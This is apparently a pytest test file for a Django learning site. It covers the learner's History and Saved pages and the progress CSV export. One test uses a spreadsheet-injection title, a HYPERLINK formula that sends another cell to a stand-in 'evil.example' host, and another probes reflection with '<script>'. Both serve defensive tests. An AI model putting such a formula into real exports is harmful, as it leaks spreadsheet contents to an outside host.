"""The history page: what a learner completed or skipped, and their progress as a CSV file."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from zoneinfo import ZoneInfo

import pytest
from django.utils import timezone

from catalog.models import Resource, Status
from learn.export import spreadsheet_safe
from learn.selectors import READING_NOW_SHOWN
from recommender import services
from recommender.models import Note, Progress
from tests.factories import ResourceFactory

pytestmark = pytest.mark.django_db


def mark(user, resource, state: str, *, rating: int | None = None, minutes_ago: int = 0):
    progress = Progress.objects.create(user=user, resource=resource, state=state, rating=rating)
    # updated_at is auto_now: set the order the test wants with an update.
    when = timezone.now() - timedelta(minutes=minutes_ago)
    Progress.objects.filter(pk=progress.pk).update(
        updated_at=when, completed_at=when if state == "completed" else None
    )
    return progress


def listed_titles(response) -> list[str]:
    return [item["card"]["title"] for item in response.context["items"]]


def test_history_lists_everything_newest_first(alice, alice_web):
    old, new, skipped, started = (ResourceFactory(title=t) for t in ("Old", "New", "Skip", "Open"))
    mark(alice, old, "completed", minutes_ago=30)
    mark(alice, new, "completed", rating=5, minutes_ago=1)
    mark(alice, skipped, "skipped", minutes_ago=10)
    mark(alice, started, "in_progress")
    response = alice_web.get("/history/")
    assert response.status_code == 200
    assert listed_titles(response) == ["Open", "New", "Skip", "Old"]
    assert "rated 5/5" in response.content.decode()


def test_rating_an_item_again_keeps_its_place_and_its_completed_date(alice, alice_web):
    earlier, later = ResourceFactory(title="Earlier"), ResourceFactory(title="Later")
    mark(alice, earlier, "completed", rating=3, minutes_ago=3 * 24 * 60)
    mark(alice, later, "completed", rating=4, minutes_ago=60)
    alice_web.post(f"/progress/{earlier.pk}/", {"state": "completed", "rating": "5"})
    assert Progress.objects.get(user=alice, resource=earlier).rating == 5
    response = alice_web.get("/history/", {"show": "completed"})
    assert listed_titles(response) == ["Later", "Earlier"]
    shown = response.context["items"][1]["when"]
    assert shown.date() == (timezone.now() - timedelta(days=3)).date()


@pytest.mark.parametrize(("show", "titles"), [("completed", ["Done"]), ("skipped", ["Skip"])])
def test_history_shows_one_kind_when_asked(alice, alice_web, show, titles):
    mark(alice, ResourceFactory(title="Done"), "completed")
    mark(alice, ResourceFactory(title="Skip"), "skipped")
    assert listed_titles(alice_web.get("/history/", {"show": show})) == titles


def test_an_unknown_show_value_is_a_400_page_not_an_error(alice_web):
    response = alice_web.get("/history/", {"show": "<script>"})
    assert response.status_code == 400
    assert "<script>" not in response.content.decode()


def test_an_unknown_show_value_gets_history_saying_what_it_can_show(alice_web):
    response = alice_web.get("/history/", {"show": "done"})
    assert response.status_code == 400
    assert "learn/history.html" in [template.name for template in response.templates]
    page = response.content.decode()
    assert "History cannot show “done”. It can show" in page
    for value, label in [
        ("all", "all"),
        ("completed", "completed"),
        ("skipped", "skipped"),
        ("saved", "saved and put off"),
    ]:
        assert f'<a href="?show={value}">{label}</a>' in page


def test_history_totals_count_completions_skips_ratings_and_reading_time(alice, alice_web):
    mark(alice, ResourceFactory(estimated_minutes=30), "completed", rating=4)
    mark(alice, ResourceFactory(estimated_minutes=45), "completed")
    mark(alice, ResourceFactory(estimated_minutes=90), "skipped")
    body = " ".join(alice_web.get("/history/").content.decode().split())
    assert "<strong>2</strong> completed (about 1 h 15 min of reading)" in body
    assert "<strong>1</strong> skipped; 1 of your completions rated." in body


def test_steps_marked_known_are_counted_and_labelled_apart_from_reading(alice, alice_web):
    # "I know these" on the Path page: 16 basics said 20 hours of reading in a walk-through.
    mark(alice, ResourceFactory(estimated_minutes=30, title="Read one"), "completed")
    knew = mark(alice, ResourceFactory(estimated_minutes=600, title="Knew it"), "completed")
    Progress.objects.filter(pk=knew.pk).update(known=True)
    response = alice_web.get("/history/")
    body = " ".join(response.content.decode().split())
    assert (
        "<strong>1</strong> completed (about 30 min of reading), <strong>1</strong> already known"
        in body
    )
    labels = {item["card"]["title"]: item["state"].label for item in response.context["items"]}
    assert labels == {"Read one": "Completed", "Knew it": "Already known"}
    # Listed apart: 16 known steps buried two read ones in a walk-through's "Completed".
    completed = alice_web.get("/history/", {"show": "completed"}).context["items"]
    assert [item["card"]["title"] for item in completed] == ["Read one"]
    known = alice_web.get("/history/", {"show": "known"}).context["items"]
    assert [item["card"]["title"] for item in known] == ["Knew it"]
    assert '<a class="chip" href="?show=known"' in response.content.decode()
    rows = list(
        csv.DictReader(
            io.StringIO(alice_web.get("/history/progress.csv").content.decode("utf-8-sig"))
        )
    )
    assert {row["title"]: row["state"] for row in rows} == labels


def test_history_shows_only_the_learners_own_progress(alice, bob, alice_web):
    mark(bob, ResourceFactory(title="Bob's read"), "completed")
    response = alice_web.get("/history/")
    assert "?show=known" not in response.content.decode()  # nothing known: no such tab
    assert listed_titles(response) == []
    assert "Items you mark done, skip, start or save for later appear here." in (
        response.content.decode()
    )


def test_a_withdrawn_resource_leaves_the_page_but_not_the_download(alice, alice_web):
    mark(alice, ResourceFactory(title="Withdrawn", status=Status.REJECTED), "completed")
    assert listed_titles(alice_web.get("/history/")) == []
    download = alice_web.get("/history/progress.csv").content.decode("utf-8-sig")
    assert [row["title"] for row in csv.DictReader(io.StringIO(download))] == ["Withdrawn"]


def test_history_pages_twenty_at_a_time_and_an_odd_page_shows_the_nearest(alice, alice_web):
    for n in range(25):
        mark(alice, ResourceFactory(), "completed", minutes_ago=n)
    assert len(listed_titles(alice_web.get("/history/"))) == 20
    assert len(listed_titles(alice_web.get("/history/", {"page": 2}))) == 5
    # The last item of the last page cleared comes back to ?page=2 when only one is left.
    assert alice_web.get("/history/", {"page": 3}).context["page"].number == 2
    first_completed = alice_web.get("/history/", {"show": "completed"}).content.decode()
    assert 'href="?show=completed&amp;page=2"' in first_completed
    assert alice_web.get("/history/", {"page": "x"}).context["page"].number == 1


@pytest.mark.parametrize("number", ["0", "-1"])
def test_history_shows_the_first_page_for_a_page_number_below_one(alice, alice_web, number):
    for n in range(25):
        mark(alice, ResourceFactory(), "completed", minutes_ago=n)
    assert alice_web.get("/history/", {"page": number}).context["page"].number == 1


def test_clearing_an_item_from_history_takes_it_off_and_comes_back_to_history(alice, alice_web):
    resource = ResourceFactory(title="Cleared")
    mark(alice, resource, "completed")
    response = alice_web.post(f"/progress/{resource.pk}/forget/", {"next": "/history/"})
    assert response.status_code == 302
    assert response["Location"] == "/history/"
    assert listed_titles(alice_web.get("/history/")) == []


def test_history_and_its_download_need_sign_in(client):
    for url in ("/history/", "/history/progress.csv"):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith("/signin/")


def test_the_main_menu_links_history_for_signed_in_learners_only(client, alice_web):
    assert 'href="/history/"' in alice_web.get("/browse/").content.decode()
    assert 'href="/history/"' not in client.get("/browse/").content.decode()


def test_the_main_menu_links_saved_and_marks_it_current_on_the_saved_list(client, alice_web):
    body = alice_web.get("/history/?show=saved").content.decode()
    assert '<a href="/history/?show=saved" aria-current="page">Saved</a>' in body
    assert '<a href="/history/">History</a>' in body  # not current too
    body = alice_web.get("/history/?show=completed").content.decode()
    assert '<a href="/history/?show=saved">Saved</a>' in body
    assert '<a href="/history/" aria-current="page">History</a>' in body
    assert 'href="/history/?show=saved"' not in client.get("/browse/").content.decode()


def test_an_empty_history_offers_no_download_no_notes_link_and_no_filters(alice_web):
    body = alice_web.get("/history/").content.decode()
    assert "Nothing here yet." in body
    assert "Download all your progress" not in body
    assert "Your notes (" not in body
    assert 'aria-label="Show"' not in body


def test_a_history_with_only_notes_links_them_and_nothing_else(alice, alice_web):
    Note.objects.create(user=alice, resource=ResourceFactory(), text="Ask about this.")
    body = alice_web.get("/history/").content.decode()
    assert "Your notes (1)" in body
    assert "Download all your progress" not in body


def test_the_saved_list_is_named_saved_and_says_only_how_to_save_when_empty(alice_web):
    # The menu's "Saved" opened a page headed "History", with History's totals, its filters
    # and two empty messages (a walk-through).
    response = alice_web.get("/history/?show=saved")
    body = response.content.decode()
    assert "<h1>Saved</h1>" in body and "<title>Saved" in body
    assert "Nothing saved or put off." in body
    assert "Nothing here yet." not in body and 'aria-label="Show"' not in body


def test_the_saved_list_leaves_historys_totals_and_download_to_history(alice, alice_web):
    saved = ResourceFactory(title="Later")
    alice_web.post(f"/progress/{saved.pk}/", {"state": "planned"})
    body = alice_web.get("/history/?show=saved").content.decode()
    assert "<h1>Saved</h1>" in body and "Later" in body
    assert "Download all your progress" not in body
    # Its own counts, not History's completed, skipped and rated.
    assert "<strong>1</strong> saved for later." in body and "</strong> completed" not in body
    # History one click away, but not its chips: "Completed" under "Saved" read as a filter
    # of the saved items (a walk-through).
    assert 'aria-label="Show"' not in body
    assert '<a href="/history/">Your whole history: completed, skipped, reading</a>' in body
    assert "<h1>History</h1>" in alice_web.get("/history/").content.decode()


def test_the_download_has_every_progress_row_newest_first(alice, alice_web):
    done = ResourceFactory(title="Done", url="https://example.org/done")
    mark(alice, done, "completed", rating=3, minutes_ago=5)
    mark(alice, ResourceFactory(title="Open"), "in_progress", minutes_ago=1)
    response = alice_web.get("/history/progress.csv")
    assert response.status_code == 200
    # UTF-8 said twice: in the header, and with a byte-order mark that spreadsheet programs
    # read (without it Excel opens the file in a legacy code page and garbles "é" or "日本").
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith("\ufeff".encode())
    assert 'filename="kubelearn-progress.csv"' in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [(r["title"], r["state"], r["rating"]) for r in rows] == [
        ("Open", "Reading now", ""),
        ("Done", "Completed", "3"),
    ]
    assert rows[1]["address"] == "https://example.org/done"
    # The resource named for good, and its page here (a title or address may change).
    assert rows[1]["resource_id"] == str(done.pk)
    assert rows[1]["kubelearn_page"] == f"http://testserver/resources/{done.pk}/"


def test_the_download_gives_items_marked_as_known_no_completion_date(alice, alice_web):
    known = ResourceFactory(title="Known")
    marked = timezone.now() - timedelta(minutes=3)
    Progress.objects.create(
        user=alice, resource=known, state="completed", known=True, completed_at=marked
    )
    mark(alice, ResourceFactory(title="Read"), "completed", minutes_ago=1)
    rows = list(
        csv.DictReader(
            io.StringIO(alice_web.get("/history/progress.csv").content.decode("utf-8-sig"))
        )
    )
    by_title = {row["title"]: row for row in rows}
    assert by_title["Known"]["state"] == "Already known"
    assert by_title["Known"]["completed_at"] == ""
    assert by_title["Known"]["updated_at"] != ""  # when it was marked
    assert by_title["Read"]["completed_at"] != ""


def test_the_download_gives_the_full_date_an_item_put_off_comes_back(alice, alice_web):
    resource = ResourceFactory(title="Later")
    back = timezone.now() + timedelta(days=7)
    Progress.objects.create(user=alice, resource=resource, state="planned", later_until=back)
    rows = list(
        csv.DictReader(
            io.StringIO(alice_web.get("/history/progress.csv").content.decode("utf-8-sig"))
        )
    )
    assert rows[0]["state"] == "Not now"  # not "Not now: back 11 Dec", which has no year
    assert rows[0]["back_in_queue_at"] == f"{timezone.localtime(back):%Y-%m-%d %H:%M:%S}"


def test_the_download_says_an_item_put_off_is_back_once_its_day_came(alice, alice_web):
    resource = ResourceFactory(title="Later")
    back = timezone.now() - timedelta(days=1)
    Progress.objects.create(user=alice, resource=resource, state="planned", later_until=back)
    rows = list(
        csv.DictReader(
            io.StringIO(alice_web.get("/history/progress.csv").content.decode("utf-8-sig"))
        )
    )
    assert rows[0]["state"] == "Back from “Not now”"
    assert rows[0]["back_in_queue_at"] == f"{timezone.localtime(back):%Y-%m-%d %H:%M:%S}"


def test_a_feed_title_that_is_a_spreadsheet_formula_is_downloaded_as_text(alice, alice_web):
    # A feed entry's title reaches the catalog from a stranger's server: in a spreadsheet,
    # '=HYPERLINK(...)' would be a live link that leaks the sheet's other cells.
    title = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    mark(alice, ResourceFactory(title=title), "completed")
    body = alice_web.get("/history/progress.csv").content.decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(body))
    assert row["title"] == "'" + title


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_formula_like_cells_get_an_apostrophe(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Kubernetes RBAC", "", "1 = 1", "https://example.org/"])
def test_ordinary_cells_stay_as_they_are(value):
    assert spreadsheet_safe(value) == value


# --- Saved for later ----------------------------------------------------------------------------


def test_saving_a_resource_for_later_marks_it_planned_and_says_where_it_is(alice, alice_web):
    resource = ResourceFactory(title="Later")
    response = alice_web.post(
        f"/progress/{resource.pk}/",
        {"state": "planned", "next": f"/resources/{resource.pk}/"},
        follow=True,
    )
    assert Progress.objects.get(user=alice, resource=resource).state == "planned"
    body = response.content.decode()
    assert "Saved “Later” for later. It waits in Saved." in body
    assert "Saved for later</span>" in body  # the state pill, in the page's words


def test_a_resource_not_started_offers_save_for_later_and_a_saved_one_does_not(
    alice, alice_web, seed
):
    # Not in the queue: a queued item offers "Not now", as its queue card does.
    queued = [item["card"]["id"] for item in alice_web.get("/").context["items"]]
    resource = Resource.objects.filter(status="approved").exclude(pk__in=queued).first()
    assert "Save for later" in alice_web.get(f"/resources/{resource.pk}/").content.decode()
    mark(alice, resource, "planned")
    assert "Save for later<" not in alice_web.get(f"/resources/{resource.pk}/").content.decode()


def test_browse_cards_let_a_learner_save_and_unsave_but_not_a_visitor(alice, alice_web, client):
    resource = ResourceFactory(title="Browse me")
    assert "Save for later" not in client.get("/browse/").content.decode()
    assert "Save for later" in alice_web.get("/browse/").content.decode()
    mark(alice, resource, "planned")
    assert "Remove from saved" in alice_web.get("/browse/").content.decode()
    mark_done = ResourceFactory(title="Finished")
    mark(alice, mark_done, "completed")
    items = {i["card"]["title"]: i["state"] for i in alice_web.get("/browse/").context["items"]}
    assert items["Finished"].state == "completed"


@pytest.mark.parametrize("page", ["/history/?show=saved", "/resources/{pk}/"])
def test_a_saved_item_is_removed_from_saved_wherever_it_shows(alice, alice_web, page):
    # The Browse card's words (_save.html), not "Clear": the item is only saved.
    resource = ResourceFactory(title="Saved one")
    mark(alice, resource, "planned")
    body = alice_web.get(page.format(pk=resource.pk)).content.decode()
    assert 'aria-label="Remove from saved: Saved one">Remove from saved<' in body
    assert "Clear progress<" not in body


@pytest.mark.parametrize(
    ("state", "button"),
    [
        ("completed", 'Clear progress<span class="visually-hidden"> on Worked on</span>'),
        ("skipped", 'Clear progress<span class="visually-hidden"> on Worked on</span>'),
        ("in_progress", 'aria-label="Stop reading: Worked on">Stop reading<'),
    ],
)
def test_an_item_done_skipped_or_started_is_cleared(alice, alice_web, state, button):
    resource = ResourceFactory(title="Worked on")
    mark(alice, resource, state)
    body = alice_web.get(f"/resources/{resource.pk}/").content.decode()
    assert button in body
    assert "Remove from saved" not in body


@pytest.mark.parametrize(
    ("state", "message"),
    [
        ("planned", "Removed “Worked on” from saved."),
        ("skipped", "Cleared your progress on “Worked on”."),
        ("in_progress", "Stopped reading “Worked on”: back in your queue"),
    ],
)
def test_undoing_says_what_the_button_said(alice, alice_web, state, message):
    resource = ResourceFactory(title="Worked on")
    mark(alice, resource, state)
    response = alice_web.post(
        f"/progress/{resource.pk}/forget/", {"next": "/history/?show=all"}, follow=True
    )
    assert message in response.content.decode()
    assert not Progress.objects.filter(user=alice).exists()


def test_history_lists_saved_items_under_their_own_view_and_counts_them(alice, alice_web):
    mark(alice, ResourceFactory(title="Saved one"), "planned", minutes_ago=5)
    mark(alice, ResourceFactory(title="Read one"), "completed")
    assert listed_titles(alice_web.get("/history/", {"show": "saved"})) == ["Saved one"]
    assert listed_titles(alice_web.get("/history/")) == ["Read one", "Saved one"]
    body = " ".join(alice_web.get("/history/").content.decode().split())
    assert "<strong>1</strong> saved for later." in body


def test_up_next_links_the_saved_items_only_when_there_are_some(alice, alice_web, seed):
    assert "saved-hint" not in alice_web.get("/").content.decode()
    mark(alice, ResourceFactory(), "planned")
    body = alice_web.get("/").content.decode()
    assert 'href="/history/?show=saved">1 item for later</a>' in body


def test_a_saved_resource_in_the_queue_says_so_and_offers_remove_from_saved(alice, alice_web, seed):
    # Saving does not jump the path's order (a later step waits for the ones before it); when
    # the queue offers a saved item, it says so.
    from tests.learn.conftest import path_ids

    saved = path_ids(seed)[2]
    alice_web.post(f"/progress/{saved}/", {"state": "planned"})
    page = alice_web.get("/")
    items = {item["card"]["id"]: item for item in page.context["items"]}
    assert "You saved it for later" in [reason["text"] for reason in items[saved]["reasons"]]
    # The card's own buttons follow: the walk-through saved an item and still saw "Save for
    # later" on it, as if nothing had happened.
    assert items[saved]["state"].state == "planned"
    body = page.content.decode()
    card = body[body.index(f'data-resource="{saved}"') :]
    card = card[: card.index("</fieldset>")]
    assert "Remove from saved" in card and "Save for later" not in card


def test_clearing_the_last_item_of_the_last_page_comes_back_to_a_page(alice, alice_web):
    items = [ResourceFactory() for _ in range(21)]
    for n, resource in enumerate(items):
        mark(alice, resource, "completed", minutes_ago=n)
    response = alice_web.post(
        f"/progress/{items[-1].pk}/forget/", {"next": "/history/?show=all&page=2"}, follow=True
    )
    assert response.status_code == 200
    assert response.context["page"].number == 1
    assert "Cleared your progress on “" in response.content.decode()


def test_save_rating_on_a_finished_item_says_the_rating_was_saved(alice, alice_web):
    resource = ResourceFactory(title="Rated")
    mark(alice, resource, "completed", rating=3)
    response = alice_web.post(
        f"/progress/{resource.pk}/", {"state": "completed", "rating": "5"}, follow=True
    )
    assert "Rating of “Rated” saved: 5 of 5." in response.content.decode()
    # "Save rating" with "none" selected sends an empty rating (Done sends none at all).
    none = {"state": "completed", "rating": ""}
    response = alice_web.post(f"/progress/{resource.pk}/", none, follow=True)
    assert "Rating of “Rated” removed." in response.content.decode()
    # None again: nothing was removed (a second Enter on "Save rating", where focus comes back
    # after Done on a resource's page, said "removed" of a rating never given).
    response = alice_web.post(f"/progress/{resource.pk}/", none, follow=True)
    assert "“Rated” stays marked done, with no rating." in response.content.decode()


def test_a_low_rating_says_what_it_changes_and_a_high_one_stays_short(alice, alice_web):
    resource = ResourceFactory(title="Rated")
    mark(alice, resource, "completed", rating=3)
    low = alice_web.post(
        f"/progress/{resource.pk}/", {"state": "completed", "rating": "1"}, follow=True
    ).content.decode()
    assert (
        "Rating of “Rated” saved: 1 of 5. What resembles it now ranks lower in your queue, "
        "the path&#x27;s steps aside." in low
    )
    high = alice_web.post(
        f"/progress/{resource.pk}/", {"state": "completed", "rating": "4"}, follow=True
    ).content.decode()
    assert "saved: 4 of 5.<" in high.replace("</span>", "<")


def test_the_resource_page_says_saved_and_started_in_plain_words(alice, alice_web):
    saved, started = ResourceFactory(), ResourceFactory()
    mark(alice, saved, "planned")
    mark(alice, started, "in_progress")
    assert "You saved this for later." in alice_web.get(f"/resources/{saved.pk}/").content.decode()
    assert "You are reading this." in alice_web.get(f"/resources/{started.pk}/").content.decode()


def test_history_lists_everything_in_progress_and_up_next_links_there_when_full(alice, alice_web):
    started = [ResourceFactory(title=f"Started {n}") for n in range(READING_NOW_SHOWN + 2)]
    for resource in started:
        mark(alice, resource, "in_progress")
    page = alice_web.get("/history/", {"show": "reading"})
    assert page.status_code == 200
    assert len(page.context["items"]) == len(started)
    assert f"<strong>{len(started)}</strong> reading now" in page.content.decode()
    up_next = alice_web.get("/").content.decode()
    assert 'href="/history/?show=reading"' in up_next


def test_an_empty_reading_view_says_how_items_get_there(alice_web, db):
    body = alice_web.get("/history/", {"show": "reading"}).content.decode()
    assert "Nothing in progress" in body


def test_all_means_every_state_history_counts(alice, alice_web):
    for state in ("completed", "skipped", "planned", "in_progress"):
        mark(alice, ResourceFactory(title=f"A {state} one"), state)
    page = alice_web.get("/history/", {"show": "all"})
    assert len(page.context["items"]) == 4


def test_a_queued_item_offers_no_save_for_later_on_its_card_or_its_page(alice_web, seed):
    # On Up next the item is in the queue already: a walk-through pressed "Save for later" to
    # put it off, and it stayed where it was; another could not tell it from "Not now".
    body = alice_web.get("/").content.decode()
    items = alice_web.get("/").context["items"]
    first = items[0]["card"]["id"]
    card = body[body.index(f'data-resource="{first}"') :]
    card = card[: card.index("</fieldset>")]
    assert "Save for later" not in card and ">Done<" in card
    second = items[1]["card"]["id"]
    assert "Save for later" not in alice_web.get(f"/resources/{second}/").content.decode()
    queued = [item["card"]["id"] for item in items]
    elsewhere = Resource.objects.filter(status="approved").exclude(pk__in=queued).first()
    assert "Save for later" in alice_web.get(f"/resources/{elsewhere.pk}/").content.decode()


def test_an_unknown_show_value_still_counts_the_notes_and_leaves_out_known(alice, alice_web):
    # It read "Your notes ()" and offered "already known" to a learner with none.
    Note.objects.create(user=alice, resource=ResourceFactory(), text="Read again")
    page = alice_web.get("/history/", {"show": "reading-now"}).content.decode()
    assert "()" not in page
    assert "Your notes (1)" in page
    assert "?show=known" not in page


def test_all_lists_steps_marked_known_after_what_the_learner_did(alice, alice_web):
    # One "I know these" marked 24 steps at once, newest of all: they filled the first page of
    # "All", and the one article the walk-through's learner had read was on page 2.
    mark(alice, ResourceFactory(title="Read it"), "completed", minutes_ago=60)
    mark(alice, ResourceFactory(title="Skipped it"), "skipped", minutes_ago=90)
    for n in range(25):
        knew = mark(alice, ResourceFactory(title=f"Knew {n:02}"), "completed", minutes_ago=1)
        Progress.objects.filter(pk=knew.pk).update(known=True)
    first_page = listed_titles(alice_web.get("/history/"))
    assert first_page[:2] == ["Read it", "Skipped it"]
    assert len(first_page) == 20 and first_page[2].startswith("Knew")
    # The known filter keeps its own order: newest first.
    known = listed_titles(alice_web.get("/history/", {"show": "known"}))
    assert all(title.startswith("Knew") for title in known)


def test_the_saved_address_opens_historys_saved_list(alice_web):
    # The menu's Saved is /history/?show=saved; /saved/, typed, was a 404 (a walk-through).
    response = alice_web.get("/saved/")
    assert response.status_code == 302 and response["Location"] == "/history/?show=saved"
    assert alice_web.get(response["Location"]).status_code == 200


def test_the_download_gives_times_in_the_learners_time_zone(alice, alice_web):
    # Its times were in UTC beside pages in the browser's zone (a walk-through).
    mark(alice, ResourceFactory(), "completed")
    alice_web.cookies["tz"] = "Europe/Rome"
    rows = list(
        csv.DictReader(
            io.StringIO(alice_web.get("/history/progress.csv").content.decode("utf-8-sig"))
        )
    )
    progress = Progress.objects.get(user=alice)
    rome = ZoneInfo("Europe/Rome")
    assert rows[0]["updated_at"] == f"{progress.updated_at.astimezone(rome):%Y-%m-%d %H:%M:%S}"
    assert rows[0]["completed_at"] == (
        f"{progress.completed_at.astimezone(rome):%Y-%m-%d %H:%M:%S}"
    )
    assert rows[0]["time_zone"] == "Europe/Rome"


def test_the_downloads_times_are_written_as_spreadsheets_read_a_date_and_time(alice, alice_web):
    # "2026-12-06T18:04:56+00:00" is text to a spreadsheet (a walk-through); the zone has its
    # own column.
    mark(alice, ResourceFactory(), "completed")
    rows = list(
        csv.DictReader(
            io.StringIO(alice_web.get("/history/progress.csv").content.decode("utf-8-sig"))
        )
    )
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", rows[0]["completed_at"])
    assert rows[0]["time_zone"] == "UTC"


def test_saving_an_early_step_keeps_a_focused_learners_path_where_it_was(
    alice, alice_web, alice_api, seed
):
    # An Intermediate learner focused on RBAC saved step 3 from Browse: Up next then called it
    # "your next step" and filled the queue with basics (a walk-through).
    from tests.learn.conftest import path_ids

    alice_api.patch(
        "/api/me/profile/", {"level": 2, "focus": [{"area": "rbac", "weight": 1.0}]}, format="json"
    )
    before = alice_api.get("/api/me/next/").json()["recommendation"]["resource"]["id"]
    third = path_ids(seed)[2]
    alice_web.post(f"/progress/{third}/", {"state": "planned", "next": "/browse/"})
    after = alice_api.get("/api/me/next/").json()["recommendation"]["resource"]["id"]
    assert after == before != third
    queue = alice_api.get("/api/me/queue/", {"limit": 10}).json()["results"]
    saved = next(item for item in queue if item["resource"]["id"] == third)
    texts = [reason["text"] for reason in saved["reasons"]]
    assert "Step 3 of the learning path, before where yours goes on" in texts
    assert "You saved it for later" in texts


def test_a_step_marked_known_can_be_saved_from_browse_to_read_after_all(alice, alice_web):
    # A walk-through's network engineer used "I know these", then wanted to re-read one of the
    # steps and found no button on Browse.
    resource = ResourceFactory(title="Operating a Kubernetes network")
    services.progress_set(user=alice, resource=resource, state="completed", known=True)
    body = alice_web.get("/browse/").content.decode()
    card = body[body.index(f'data-resource="{resource.pk}"') :]
    card = card[: card.index("</fieldset>")]
    assert 'aria-label="Save for later: Operating a Kubernetes network"' in card
    alice_web.post(f"/progress/{resource.pk}/", {"state": "planned", "shown": "completed"})
    progress = Progress.objects.get(user=alice, resource=resource)
    assert (progress.state, progress.known) == ("planned", False)
